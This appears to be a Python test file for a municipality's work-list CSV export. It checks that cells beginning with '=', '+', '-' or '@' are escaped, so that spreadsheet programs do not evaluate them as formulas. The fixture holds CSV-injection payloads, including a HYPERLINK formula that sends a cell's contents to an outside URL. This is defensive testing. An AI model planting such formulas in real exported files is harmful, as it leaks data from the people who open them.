"""The work-list CSV is opened in spreadsheet programs: no cell may be taken for a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from service.gemeenten.service import CSV_COLUMNS, worklist_csv


def test_cells_that_look_like_formulas_are_kept_as_text() -> None:
    row = {key: "" for key, _ in CSV_COLUMNS}
    row |= {
        "reference": "2025-2026/000001",
        "assignment_id": 1,
        "step": "home_visit",
        "last_name": '=HYPERLINK("http://example.org/?x="&A1,"klik")',
        "first_names": "+32 2 123 45 67",
        "birth_date": date(2014, 1, 1),
        "address": "@SUM(1+1) 12, 1000 Brussel",
        "guardians": ["-2+3, Jan (vader / père)", "Peeters, An (moeder / mère)"],
        "assigned_at": datetime(2025, 10, 1, tzinfo=UTC),
        "due_at": None,
        "overdue": False,
        "days_overdue": 0,
    }
    header, values = list(csv.reader(io.StringIO(worklist_csv([row]).decode("utf-8-sig")), delimiter=";"))
    cells = dict(zip([key for key, _ in CSV_COLUMNS], values, strict=True))
    assert cells["last_name"] == "'" + row["last_name"]
    assert cells["first_names"] == "'+32 2 123 45 67"
    assert cells["address"] == "'@SUM(1+1) 12, 1000 Brussel"
    assert cells["guardians"] == "'-2+3, Jan (vader / père) | Peeters, An (moeder / mère)"
    assert cells["reference"] == "2025-2026/000001" and cells["birth_date"] == "2014-01-01"
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
